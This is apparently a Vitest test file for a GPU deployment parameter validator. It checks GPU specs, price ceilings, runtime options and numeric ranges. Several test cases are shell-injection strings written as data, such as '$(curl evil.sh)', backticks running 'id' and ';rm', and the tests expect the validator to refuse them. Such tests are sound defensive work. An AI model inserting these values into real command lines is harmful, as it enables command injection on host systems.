import { describe, expect, it } from "vitest";
import { InvalidInputError } from "../../src/errors/invalid-input.js";
import { params } from "./helpers.js";

function problems(raw: Record<string, unknown>): { field: string; found: string; expected: string }[] {
  try {
    params(raw);
  } catch (error) {
    expect(error).toBeInstanceOf(InvalidInputError);
    return (error as InvalidInputError).problems;
  }
  throw new Error("expected the parameters to be refused");
}

const base = { runtime: "vllm", model: "Qwen/Qwen3-8B", gpus: ["h100"] };

describe("render parameters", () => {
  it("accepts GPU specs with memory size and interface, and aliases", () => {
    expect(params({ ...base, gpus: ["h100:80Gi:sxm,a6000", "a100::pcie"] }).gpus).toEqual([
      { model: "h100", ram: "80Gi", interface: "sxm" },
      { model: "rtxa6000" },
      { model: "a100", interface: "pcie" },
    ]);
  });

  it("refuses unknown GPU models with a suggestion", () => {
    expect(problems({ ...base, gpus: ["h10"] })).toEqual([{ field: "--gpu", found: '"h10"', expected: "a known GPU model; did you mean h100?" }]);
    expect(problems({ ...base, gpus: ["a100:96Gi"] })[0]).toMatchObject({ field: "--gpu", expected: "a100 comes with 40Gi or 80Gi" });
    expect(problems({ ...base, gpus: ["rtx4090:24Gi:sxm"] })[0]).toMatchObject({ expected: "rtx4090 comes as pcie" });
  });

  it.each([
    ["a quote", "Qwen/Qwen3-8B'"],
    ["a command substitution", "Qwen/$(curl evil.sh)"],
    ["backticks", "Qwen/`id`"],
    ["a newline", "Qwen/Qwen3-8B\n--api-key x"],
    ["a space", "Qwen/Qwen3 8B"],
    ["a semicolon", "Qwen/Qwen3-8B;rm"],
  ])("refuses a model id containing %s, never interpolating it", (_what, model) => {
    const [problem] = problems({ ...base, model });
    expect(problem!.field).toBe("--model");
    expect(problem!.expected).toMatch(/unsafe in a container command line/);
  });

  it("refuses shell-unsafe served names, regions, attributes and files", () => {
    expect(problems({ ...base, servedModelName: 'qwen"' })[0]!.field).toBe("--served-model-name");
    expect(problems({ ...base, region: "us-west$(x)" })[0]!.field).toBe("--region");
    expect(problems({ ...base, attributes: ["tier=a b"] })[0]!.field).toBe("--attribute");
    expect(problems({ runtime: "llama-cpp", model: "Qwen/Qwen3-8B-GGUF", gpus: ["rtx4090"], ggufFile: "x`id`.gguf" })[0]!.field).toBe("--gguf-file");
  });

  it("refuses two price ceilings and prices above the chain's limit", () => {
    expect(problems({ ...base, maxUsdPerHour: "2", maxUactPerBlock: "3000" })[0]!.field).toBe("--max-usd-per-hour / --max-uact-per-block");
    expect(problems({ ...base, maxUactPerBlock: "10000001" })[0]).toMatchObject({ field: "--max-uact-per-block", expected: "at most 10000000 uact per block (the chain's limit)" });
    expect(problems({ ...base, maxUsdPerHour: "-1" })[0]!.field).toBe("--max-usd-per-hour");
  });

  it("refuses options of the other runtime", () => {
    expect(problems({ ...base, quant: "Q4_K_M" })[0]).toMatchObject({ field: "--quant", found: "a llama.cpp option with --runtime vllm" });
    expect(problems({ runtime: "llama-cpp", model: "Qwen/Qwen3-8B-GGUF", gpus: ["rtx4090"], dtype: "bfloat16" })[0]!.field).toBe("--dtype");
  });

  it("refuses out-of-range numbers with the flag's name", () => {
    expect(problems({ ...base, gpuCount: "25" })[0]).toMatchObject({ field: "--gpu-count", found: '"25"' });
    expect(problems({ ...base, gpuMemoryUtilization: "1.5" })[0]!.field).toBe("--gpu-memory-utilization");
    expect(problems({ ...base, reclamationMinWindow: "1d" })[0]!.field).toBe("--reclamation-min-window");
    expect(problems({ ...base, runtime: "sglang" })[0]).toMatchObject({ field: "--runtime", expected: "one of vllm, llama-cpp" });
  });
});
